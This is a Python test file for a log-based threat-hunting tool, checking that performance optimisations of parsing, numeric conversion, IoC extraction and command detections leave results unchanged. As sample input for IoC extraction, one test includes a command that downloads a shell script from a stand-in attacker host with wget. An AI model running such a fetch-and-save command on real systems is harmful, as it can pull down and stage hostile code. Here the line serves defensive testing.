"""Speed-ups that must not change what is computed (issue 12).

Each test pins the behaviour the faster code relies on: the command detectors build a
command's evidence only for rows a rule hit, IoC extraction reads each distinct text once,
floats are bounded to 64-bit integers without a per-value loop, and the parse cache is
shared by readers with and without evidence roots.
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import numpy as np
import pandas as pd

from hunting.analysis.iocs import _column_iocs
from hunting.evidence import parse_roots
from hunting.readers import read_cached
from hunting.readers.base import ReadOptions
from hunting.schema import INT, _numeric

LINE = "Mar  9 10:00:00 web01 sshd[1]: Failed password for root from 203.0.113.7 port 22 ssh2\n"


def test_parse_cache_shared_with_and_without_evidence_roots(tmp_path: Path) -> None:
    """The app (evidence roots set) reuses the CLI's parse of the same file, and roots still refuse."""
    root = tmp_path / "evidence"
    root.mkdir()
    log = root / "auth.log"
    log.write_text(LINE * 3)  # 3 lines by construction
    outside = tmp_path / "other.log"
    outside.write_text(LINE)
    cache = tmp_path / "cache"
    cache.mkdir()
    plain = read_cached(log, ReadOptions(), cache)
    rooted = read_cached(log, ReadOptions(roots=parse_roots([str(root)])), cache)
    assert plain.parquet and plain.parquet == rooted.parquet
    assert plain.account.parsed == rooted.account.parsed == 3
    assert len(list((cache / "parsed").iterdir())) == 1
    refused = read_cached(outside, ReadOptions(roots=parse_roots([str(root)])), cache)
    assert refused.parquet == {} and refused.account.format == "refused"


def test_numeric_bounds_floats_to_64_bits() -> None:
    # 2**63 does not fit int64 (max 2**63 - 1) and is dropped, as is -2**63 (|int(v)| > 2**63 - 1,
    # the rule the per-value check applied); 2**63 - 1024 is the largest float below 2**63
    # (float spacing is 1024 there) and stays exact: 9223372036854774784 = 2**63 - 1024.
    values = [1.0, np.nan, 2.0**63, -(2.0**63), 2.0**63 - 1024, -(2.0**63 - 1024), 2.0**62, 0.0]
    want = [1, None, None, None, 2**63 - 1024, -(2**63 - 1024), 2**62, 0]
    for dtype in ("float64", "Float64"):
        got = _numeric(pd.Series(values, dtype=dtype), INT)
        assert str(got.dtype) == "Int64"
        assert [None if pd.isna(v) else int(v) for v in got] == want
    big = _numeric(pd.Series([1, 2**64, None], dtype=object), INT)  # Python ints past 64 bits
    assert [None if pd.isna(v) else int(v) for v in big] == [1, None, None]


def test_column_iocs_repeated_texts_keep_their_own_rows() -> None:
    """Identical texts are read once, yet every row reports its IoCs with its own position."""
    sshd = "Failed password for root from 203.0.113.7 port 22 ssh2"
    fetch = "wget http://evil.example.com/x.sh -O /tmp/x.sh"
    text = pd.Series([sshd, "no address here", fetch, sshd, fetch, sshd], index=[10, 11, 12, 13, 14, 15])
    got = _column_iocs(text)
    by_row: dict[int, list[tuple[int, str, str]]] = {}
    for pos, order, kind, value in got:
        by_row.setdefault(pos, []).append((order, kind, value))
    assert sorted(by_row) == [10, 12, 13, 14, 15]
    # read by eye from the lines: the sshd line names one address; the wget line a URL,
    # its host as a domain and the saved path
    assert by_row[10] == by_row[13] == by_row[15] == [(0, "ipv4", "203.0.113.7")]
    kinds = {kind for _, kind, _ in by_row[12]}
    assert {"url", "dns", "path"} <= kinds
    assert by_row[12] == by_row[14]
    assert [o for o, _, _ in by_row[12]] == list(range(len(by_row[12])))


def test_command_evidence_built_for_hit_rows_equals_building_all() -> None:
    """The command detectors build a command's evidence (raw line, user, session) only for the
    rows a rule hit; a row's evidence must not depend on which other rows are built with it
    (sudo sessions are matched row by row)."""
    from hunting.demo.scenario import demo_log_paths
    from hunting.detections.base import _Ctx, _Sessions, collect
    from hunting.detections.execution import _command_hits, _commands
    from hunting.detections.runner import _default_risky, _default_specs
    from hunting.sources.local import LocalSource
    from hunting.timerange import TimeRange

    src = LocalSource.from_paths(demo_log_paths())
    row = src.hosts().set_index("Computer").loc["web01"]
    data = collect(src, "web01", TimeRange(row["FirstSeen"], row["LastSeen"] + timedelta(milliseconds=1)))
    ctx = _Ctx(data, _default_specs(), _default_risky(), _Sessions(data.audit, data.users))
    texts, build = _commands(ctx)
    every = build(range(len(texts)))
    assert len(every) == len(texts) > 1000
    assert {c.origin for c in every.values()} == {"audit", "sudo", "cron"}
    sudo = [p for p, c in every.items() if c.origin == "sudo"]
    assert any(every[p].session for p in sudo)  # some sudo lines are matched to an audit session
    sample = sudo[::3] + list(range(0, len(texts), 97))
    some = build(sample)
    assert set(some) == set(sample) and all(some[p] == every[p] for p in sample)
    hits, picked = _command_hits(ctx)
    assert len(hits) and set(picked) == set(hits["Row"].tolist())
    for pos, cmd in picked.items():
        assert cmd == every[pos]
        assert cmd.command == texts.iloc[pos]
    assert _command_hits(ctx)[1] is picked  # computed once per pass, shared by both detectors


def test_store_rows_equal_query_after_conform_on_demo() -> None:
    """Frames read through Arrow (Store.rows) equal the ``.df()`` ones once conformed, for every
    table and host of the demo; a big integer beside a null stays exact (``.df()`` goes through
    float64: 2**53 + 1 would come back as 2**53)."""
    from hunting.demo.scenario import demo_log_paths
    from hunting.queries import sql
    from hunting.schema import ALL_TABLES, HOST_USERS, conform
    from hunting.sources.local import LocalSource
    from hunting.store import Store

    src = LocalSource.from_paths(demo_log_paths())
    compared = 0
    for host in src.hosts()["Computer"]:
        for table in ALL_TABLES:
            if table is HOST_USERS:
                continue
            text, params = sql(
                "table_rows", identifiers={"table": table.name}, host=host,
                start=pd.Timestamp("1971-01-01", tz="UTC"), end=pd.Timestamp("2100-01-01", tz="UTC"),
                limit=10_000_000,
            )  # fmt: skip
            via_df = conform(src.store.query(text, params), table)
            via_arrow = conform(src.store.rows(text, params), table)
            assert via_arrow.equals(via_df), (host, table.name)
            assert list(map(str, via_arrow.dtypes)) == list(map(str, via_df.dtypes))
            compared += len(via_df)
    assert compared > 50_000  # the demo's three hosts hold ~54,000 rows
    store = Store()
    got = store.rows("SELECT * FROM (VALUES (CAST(9007199254740993 AS BIGINT)), (NULL)) t(v)")
    assert got["v"].tolist()[0] == 2**53 + 1 and pd.isna(got["v"].tolist()[1])


def test_is_version_precheck_keeps_the_regex_answer() -> None:
    """_is_version skips the look-behind regex when no version word is near; the answer must be
    the regex's own, also for letters re's IGNORECASE folds (ı and İ read as i, ſ as s)."""
    from hunting.analysis.iocs import _VERSION_AFTER, _VERSION_BEFORE, _is_version

    lines = [
        "verſion 1.2.3.4", "BUİLD 1.2.3.4", "buıld=1.2.3.4", "OpenSSL 1.2.3.4", "openſſh 1.2.3.4",
        "Chromium/1.2.3.4", "x-1.2.3.4", "agent: 1.2.3.4", "RELEASE 1.2.3.4", "reviſion1.2.3.4",
        "wındows 1.2.3.4", "fooVer 1.2.3.4", "V1.2.3.4", "from 1.2.3.4", "pıd 1.2.3.4",
        "Accepted password for root from 1.2.3.4 port 22", "1.2.3.4-rc1", "nginx/1.2.3.4",
    ]  # fmt: skip
    answers = []
    for line in lines:
        start = line.index("1.2.3.4")
        end = start + len("1.2.3.4")
        direct = bool(_VERSION_BEFORE.search(line[max(0, start - 40) : start])) or bool(
            _VERSION_AFTER.match(line, end)
        )
        assert _is_version(line, start, end) == direct, line
        answers.append(direct)
    # read by eye: the keyword lines (folded letters included) are versions, plain addresses are not
    assert answers.count(True) == 14 and answers[-5:] == [False, False, False, True, True]
